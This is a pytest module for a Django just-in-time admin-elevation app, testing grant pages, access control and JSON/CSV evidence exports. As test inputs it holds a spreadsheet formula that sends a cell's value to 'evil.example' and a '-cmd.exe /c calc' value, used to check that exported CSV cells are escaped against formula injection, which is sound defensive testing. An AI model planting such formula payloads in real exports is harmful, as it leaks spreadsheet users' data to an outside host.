"""A grant's page and evidence: the requester's portal page and downloads, the admin's grant page and downloads.

Database only (the ``db`` fixture): the grant comes from the request services and never reaches
a worker; its Security log events are rows made as the collection makes them.
"""
import csv
import io
import json

import pytest
from django.contrib.auth.models import Permission
from django.urls import reverse

from jitad.elevation.models import Grant

from .builders import policy, target, user
from .timeline_world import Kind, audit_step, decided_grant, session_event

pytestmark = pytest.mark.usefixtures("db")

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.fixture
def world():
    srv, sql = target("SRV01", hostname="srv01.jitad.test"), target("SQL01")
    policy(srv)
    policy(sql, name="dba", approver_groups=["DBA-Leads"])
    alice, lead = user("alice", "Ops"), user("lead", "Leads")
    grant = decided_grant(alice, srv, lead, justification=FORMULA, ticket="+CHG-9")
    Grant.objects.filter(pk=grant.pk).update(user_sid="S-1-5-21-1-2-3-1104")
    session_event(grant, Kind.LOGON, minutes=2, record=10, sid="S-1-5-21-1-2-3-1104", logon_type=10,
                  source="10.0.0.5")
    session_event(grant, Kind.PROCESS, minutes=3, record=11, sid="S-1-5-21-1-2-3-1104",
                  process="-cmd.exe /c calc")
    session_event(grant, Kind.LOGON, minutes=120, record=12, sid="S-1-5-21-1-2-3-1104", logon_type=3, after_end=True)
    audit_step(grant, "grant.active", minutes=1)
    return {"srv": srv, "alice": alice, "lead": lead, "bob": user("bob", "Ops"), "dba": user("dbalead", "DBA-Leads"),
            "grant": grant}


def page_url(g) -> str:
    return reverse("elevation:grant", args=[g.pk])


def text(response) -> str:
    return response.content.decode()


# -- the portal ----------------------------------------------------------------------------------
def test_the_requester_opens_the_grant_page_from_my_access_and_sees_the_timeline(world, verified_client):
    client, g = verified_client(world["alice"]), world["grant"]
    access = text(client.get(reverse("elevation:access")))
    assert f'href="{page_url(g)}"' in access
    response = client.get(page_url(g))
    assert response.status_code == 200
    body = text(response)
    assert "Timeline" in body and "SRV01" in body
    assert "logon (RemoteInteractive, from 10.0.0.5)" in body
    assert "AD membership added" in body and "access requested" in body
    assert 'id="session-counts"' in body and "2 logons, 1 process" in body and "1 event after the end" in body
    assert body.count('data-flagged="1"') == 1  # the logon after the end
    assert f'href="{reverse("elevation:grant-evidence-csv", args=[g.pk])}"' in body


def test_someone_else_gets_404_for_the_page_and_the_downloads(world, verified_client):
    client, g = verified_client(world["bob"]), world["grant"]
    for url in (page_url(g), reverse("elevation:grant-evidence-json", args=[g.pk]),
                reverse("elevation:grant-evidence-csv", args=[g.pk]), reverse("elevation:grant", args=[g.pk + 100])):
        assert client.get(url).status_code == 404, url
    # The approver who decided it is not its requester either: the portal page is the holder's.
    assert verified_client(world["lead"]).get(page_url(g)).status_code == 404


def test_the_page_needs_a_login_and_a_verified_device(world, client):
    g = world["grant"]
    anonymous = client.get(page_url(g))
    assert anonymous.status_code == 302 and "/account/login/" in anonymous["Location"]
    client.force_login(world["alice"], backend="jitad.accounts.backends.ThrottledModelBackend")
    unverified = client.get(page_url(g))
    assert unverified.status_code == 302 and "/account/" in unverified["Location"]
    assert client.get(reverse("elevation:grant-evidence-json", args=[g.pk])).status_code == 302


def test_the_json_export_has_the_grant_counts_timeline_and_raw_events(world, verified_client):
    g = world["grant"]
    response = verified_client(world["alice"]).get(reverse("elevation:grant-evidence-json", args=[g.pk]))
    assert response["Content-Type"] == "application/json"
    assert f'filename="jitad-grant-{g.pk}-evidence.json"' in response["Content-Disposition"]
    data = json.loads(response.content)
    assert data["grant"]["id"] == g.pk and data["grant"]["user"] == "alice" and data["grant"]["target"] == "SRV01"
    assert data["request"]["justification"] == FORMULA and data["request"]["ticket"] == "+CHG-9"
    assert data["session_counts"] == {"events": 3, "logons": 2, "processes": 1, "after_end": 1, "log_cleared": 0}
    sessions = [x for x in data["timeline"] if x["kind"] == "session"]
    assert [x["event"]["record"] for x in sessions] == [10, 11, 12]
    assert sessions[0]["event"]["source"] == "10.0.0.5" and sessions[0]["event"]["logon_type"] == 10
    assert sessions[2]["flagged"] is True and sessions[2]["event"]["after_end"] is True
    assert data["session_events_left_out"] == 0


def test_the_csv_export_escapes_cells_a_spreadsheet_would_run(world, verified_client):
    g = world["grant"]
    response = verified_client(world["alice"]).get(reverse("elevation:grant-evidence-csv", args=[g.pk]))
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert f'filename="jitad-grant-{g.pk}-evidence.csv"' in response["Content-Disposition"]
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    assert rows[0]["kind"] == "request" and rows[0]["detail"] == "ticket +CHG-9: " + FORMULA  # starts with "t": safe
    process = next(r for r in rows if r["event_id"] == str(Kind.PROCESS))
    assert process["process"] == "'-cmd.exe /c calc"  # would run as a formula: quoted
    assert process["what"] == "process -cmd.exe /c calc"
    logon = next(r for r in rows if r["record"] == "10")
    assert logon["what"] == "logon (RemoteInteractive, from 10.0.0.5)" and logon["logon_type"] == "10"
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), row


def test_a_formula_justification_is_quoted_when_it_starts_a_cell(world, verified_client):
    g = decided_grant(world["alice"], world["srv"], world["lead"], justification="x", ticket="",
                      comment=FORMULA)
    rows = list(csv.DictReader(io.StringIO(
        verified_client(world["alice"]).get(reverse("elevation:grant-evidence-csv", args=[g.pk])).content.decode())))
    approval = next(r for r in rows if r["kind"] == "approval")
    assert approval["detail"] == "'" + FORMULA


# -- the admin -------------------------------------------------------------------------------------
ADMIN = "/admin/elevation/grant/"


def auditor():
    u = user("auditor")
    u.is_staff = True
    u.save()
    u.user_permissions.add(Permission.objects.get(codename="view_grant"))
    return u


@pytest.mark.parametrize("who", ["auditor", "lead"])
def test_the_admin_grant_page_shows_the_timeline_to_auditors_and_approvers_in_scope(world, verified_client, who):
    g = world["grant"]
    client = verified_client(auditor() if who == "auditor" else world["lead"])
    response = client.get(f"{ADMIN}{g.pk}/change/")
    assert response.status_code == 200
    body = text(response)
    assert 'id="timeline"' in body and "logon (RemoteInteractive, from 10.0.0.5)" in body
    assert "1 after the end" in body
    assert f'href="{ADMIN}{g.pk}/evidence.csv"' in body
    data = json.loads(client.get(f"{ADMIN}{g.pk}/evidence.json").content)
    assert data["grant"]["id"] == g.pk and len([x for x in data["timeline"] if x["kind"] == "session"]) == 3
    csv_response = client.get(f"{ADMIN}{g.pk}/evidence.csv")
    assert csv_response["Content-Type"] == "text/csv; charset=utf-8" and b"'-cmd.exe /c calc" in csv_response.content


def test_the_admin_download_is_refused_outside_the_approvers_scope(world, verified_client):
    g = world["grant"]
    client = verified_client(world["dba"])  # approves SQL01 only
    assert client.get(f"{ADMIN}{g.pk}/evidence.json").status_code == 404
    assert client.get(f"{ADMIN}{g.pk}/evidence.csv").status_code == 404
    assert verified_client(auditor()).get(f"{ADMIN}{g.pk}/evidence.xml").status_code == 404


def test_the_admin_grant_page_never_shows_an_ephemeral_accounts_sealed_password(world, verified_client):
    g = world["grant"]
    Grant.objects.filter(pk=g.pk).update(account=Grant.Account.CREATED, account_sam="alice-k7q2",
                                         account_dn="CN=alice-k7q2,OU=Eph,OU=JIT,DC=jitad,DC=test",
                                         account_secret="jv1.abcdef012345.c2VhbGVkLXNlY3JldA")
    body = text(verified_client(auditor()).get(f"{ADMIN}{g.pk}/change/"))
    assert "alice-k7q2" in body and "jv1.abcdef012345" not in body and "Account secret" not in body
